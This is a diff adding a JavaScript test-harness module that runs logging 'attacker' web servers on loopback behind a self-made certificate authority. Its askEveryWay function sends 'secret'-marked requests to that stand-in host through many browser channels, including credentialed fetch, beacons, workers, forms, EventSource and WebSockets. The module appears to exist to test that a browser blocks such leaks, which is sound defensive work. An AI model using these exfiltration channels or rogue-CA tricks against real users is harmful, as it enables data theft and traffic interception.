@@ -1,0 +1,155 @@
+// Sites of an attacker on loopback: HTTPS at names that an authority of this machine certified, and plain HTTP at any name.
+// They log whatever they get.
+//
+//     const thief = await attacker(lab, { hosts: [`sub.${lab.host}`] }); // before launch(): it adds its authority to lab.trusted
+//     const own = await launch(kind, lab, thief.launchOptions(kind));
+//     thief.on("/page", () => `<!doctype html>…`);
+//     await go(page, thief.https.url(`sub.${lab.host}`, "/page"));
+//     thief.log; // [{ scheme, host, method, url, headers, body }], a WebSocket's handshake with method "WEBSOCKET"
+//     thief.stop();
+import http from "node:http";
+import https from "node:https";
+import { execFileSync } from "node:child_process";
+import { once } from "node:events";
+import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { isIP } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { removeFolder } from "./machine.mjs";
+
+const openssl = (folder, ...args) => execFileSync("openssl", args, { cwd: folder, stdio: ["ignore", "ignore", "pipe"] });
+const NEW_KEY = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"];
+
+/** An authority of its own, and a certificate for `hosts` by it: file names. */
+function certify(folder, hosts) {
+    const ca = ["-keyout", "ca.key", "-out", "ca.pem", "-days", "99", "-subj", "/CN=Machine authority"];
+    const may = ["-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign"];
+    openssl(folder, "req", "-x509", ...NEW_KEY, ...ca, ...may);
+    const names = hosts.map((host) => `${isIP(host) ? "IP" : "DNS"}:${host}`).join(",");
+    writeFileSync(join(folder, "extensions"), `subjectAltName=${names}\nextendedKeyUsage=serverAuth\nkeyUsage=digitalSignature\n`);
+    openssl(folder, "req", "-new", ...NEW_KEY, "-keyout", "leaf.key", "-out", "leaf.csr", "-subj", "/CN=site");
+    const by = ["-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "90", "-extfile", "extensions"];
+    openssl(folder, "x509", "-req", "-in", "leaf.csr", "-out", "leaf.pem", ...by);
+    return { ca: join(folder, "ca.pem"), key: join(folder, "leaf.key"), certificate: join(folder, "leaf.pem") };
+}
+
+/**
+ * Starts the sites. `hosts`: the names that the certificate is for; `names`: further ones that the browsers find on loopback too.
+ */
+export async function attacker(lab, { hosts = [`sub.${lab.host}`], names = [] } = {}) {
+    const folder = mkdtempSync(join(tmpdir(), "doorlight-attacker-"));
+    const files = certify(folder, hosts);
+    lab.trusted.push(files.ca);
+    const log = [];
+    const handlers = new Map();
+    const note = (scheme, { method, url, headers }, body) => {
+        const entry = { scheme, host: headers.host ?? "", method, url, headers, body };
+        log.push(entry);
+        return entry;
+    };
+    const serve = (scheme) => async (request, response) => {
+        const parts = [];
+        for await (const part of request) parts.push(part);
+        const entry = note(scheme, request, Buffer.concat(parts).toString());
+        const handler = handlers.get(request.url.split("?")[0]);
+        const answer = handler ? await handler(entry, response) : { status: 404, body: "not found" };
+        if (answer === undefined) return;
+        const parsed = typeof answer === "string" ? { body: answer } : answer;
+        const { status = 200, type = "text/html; charset=utf-8", headers = {}, body = "" } = parsed;
+        // Without a connection that is kept, each request is seen as it comes.
+        const common = { "content-type": type, "cache-control": "no-store", "access-control-allow-origin": "*", connection: "close" };
+        response.writeHead(status, { ...common, "content-length": Buffer.byteLength(body), ...headers }).end(body);
+    };
+    const start = async (scheme, server) => {
+        // A client that hangs up is part of the game.
+        server.on("request", (request, response) => serve(scheme)(request, response).catch(() => response.destroy()));
+        server.on("upgrade", (request, socket) => {
+            note(scheme, { ...request, method: "WEBSOCKET", url: request.url, headers: request.headers }, "");
+            socket.on("error", () => {});
+            socket.end("HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
+        });
+        server.on("clientError", (_, socket) => socket.destroy());
+        server.listen(0, "127.0.0.1");
+        await once(server, "listening");
+        const { port } = server.address();
+        return { port, url: (host, path = "/") => `${scheme}://${host}:${port}${path}` };
+    };
+    const tls = https.createServer({ key: readFileSync(files.key), cert: readFileSync(files.certificate) });
+    const plain = http.createServer();
+    return {
+        https: await start("https", tls),
+        http: await start("http", plain),
+        /** The authority's certificate, a file. */
+        ca: files.ca,
+        /** The certificate for the hosts, a file. */
+        certificate: files.certificate,
+        log,
+        /**
+         * Answers a path, in both schemes and at all names. `handler(entry, response)` returns the text of an HTML page,
+         * `{ status, type, headers, body }`, or a promise of one of them; `undefined` if it has answered by itself.
+         */
+        on: (path, handler) => void handlers.set(path, typeof handler === "function" ? handler : () => handler),
+        /** What `launch` has to be given so that the names are found on loopback. In Chromium that goes for every name. */
+        launchOptions(kind, { args = [], prefs = {}, ...more } = {}) {
+            if (kind === "chromium") return { ...more, args: ["--host-resolver-rules=MAP * 127.0.0.1", ...args] };
+            const local = [lab.host, lab.other_host, lab.look_alike_host, ...hosts, ...names].join(",");
+            return { ...more, args, prefs: { "network.dns.localDomains": local, ...prefs } };
+        },
+        stop() {
+            for (const server of [tls, plain]) {
+                server.close();
+                server.closeAllConnections();
+            }
+            removeFolder(folder);
+        },
+    };
+}
+
+/** The ways of asking in {@link askEveryWay}. */
+export const WAYS = ["picture", "script", "style", "object", "embed", "video", "frame", "srcdoc", "sandboxed", "fetch", "post",
+    "keepalive", "beacon", "worker", "form", "event-source", "socket"];
+
+/**
+ * Asks the site `to` in each of the {@link WAYS}: for `/echo?MARK-WAY-secret`. Runs in a page (`page.evaluate(askEveryWay, to, mark)`, or
+ * as text in a page of the attacker's); returns when every request whose end is reported has ended.
+ */
+export async function askEveryWay(to, mark) {
+    const url = (way) => `${to}/echo?${mark}-${way}-secret`;
+    const add = (tag, attributes) => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        document.body.append(element);
+        return element;
+    };
+    add("img", { src: url("picture") });
+    add("script", { src: url("script") });
+    add("link", { rel: "stylesheet", href: url("style") });
+    add("object", { data: url("object"), type: "text/html" });
+    add("embed", { src: url("embed"), type: "text/html" });
+    add("video", { src: url("video"), preload: "auto" });
+    add("iframe", { src: url("frame") });
+    add("iframe", { srcdoc: `<img src="${url("srcdoc")}">` });
+    add("iframe", { sandbox: "allow-scripts", src: url("sandboxed") });
+    const asked = [
+        fetch(url("fetch"), { mode: "no-cors", credentials: "include" }),
+        fetch(url("post"), { mode: "no-cors", credentials: "include", method: "POST", body: "secret" }),
+        fetch(url("keepalive"), { mode: "no-cors", credentials: "include", keepalive: true }),
+    ];
+    navigator.sendBeacon(url("beacon"), "secret");
+    const code = `fetch("${url("worker")}", { mode: "no-cors", credentials: "include" }).then(() => postMessage(1), () => postMessage(0))`;
+    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+    asked.push(new Promise((done) => (worker.onmessage = worker.onerror = done)));
+    add("iframe", { name: `form-${mark}` });
+    const form = add("form", { method: "post", action: url("form"), target: `form-${mark}` });
+    form.innerHTML = "<input name=secret value=secret>";
+    form.submit();
+    const source = new EventSource(url("event-source"), { withCredentials: true });
+    asked.push(new Promise((done) => (source.onopen = source.onerror = done)).then(() => source.close()));
+    const socket = new WebSocket(url("socket").replace(/^http/, "ws"));
+    asked.push(new Promise((done) => (socket.onopen = socket.onclose = done)));
+    await Promise.allSettled(asked);
+}
+
+/** The ways of {@link askEveryWay} in which a site was asked with this mark: `targets` are the paths that it got. */
+export const waysIn = (targets, mark) =>
+    targets.map((target) => target.match(new RegExp(`^/echo\\?${mark}-(.+)-secret$`))?.[1]).filter(Boolean);
